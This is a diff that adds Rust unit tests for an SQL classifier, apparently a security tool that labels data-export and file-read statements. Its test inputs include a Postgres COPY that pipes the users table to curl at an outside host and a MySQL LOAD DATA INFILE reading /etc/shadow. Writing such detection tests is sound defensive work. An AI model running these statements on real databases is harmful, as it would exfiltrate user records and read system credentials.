@@ -447,3 +447,44 @@ fn attach(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>, verb: &str) -> bool
     }
     true
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::classify::sql::tests::check;
+
+    #[test]
+    fn data_that_leaves_says_where_to() {
+        check(
+            "postgres",
+            "COPY users TO PROGRAM 'curl -d @- https://example.com'",
+            "export Table users (all, external curl -d @- https://example.com)\nexecute Code curl -d @- https://example.com (one, local code)",
+        );
+        check(
+            "postgres",
+            "COPY (SELECT * FROM users WHERE id = 1) TO '/tmp/u.csv'",
+            "read Table users (one)\nexport Table users (one, local /tmp/u.csv)",
+        );
+        check("postgres", "COPY users TO STDOUT", "read Table users (all)");
+        check("snowflake", "COPY INTO @exports/u FROM users", "export Table users (all, private @exports/u)");
+        check(
+            "snowflake",
+            "PUT file:///tmp/u.csv @exports",
+            "export File /tmp/u.csv (all, private @exports, temporary)",
+        );
+        check(
+            "redshift",
+            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/u'",
+            "read Table users (all)\nexport Table users (all, external s3://bucket/u)",
+        );
+        check(
+            "mysql",
+            "LOAD DATA INFILE '/etc/shadow' INTO TABLE notes",
+            "update Table notes (some)\nread File /etc/shadow (all, system, credential)",
+        );
+        check(
+            "tsql",
+            "BACKUP DATABASE shop TO DISK = '\\\\other\\share\\shop.bak'",
+            "export Database shop (all, external \\\\other\\share\\shop.bak)",
+        );
+    }
+}
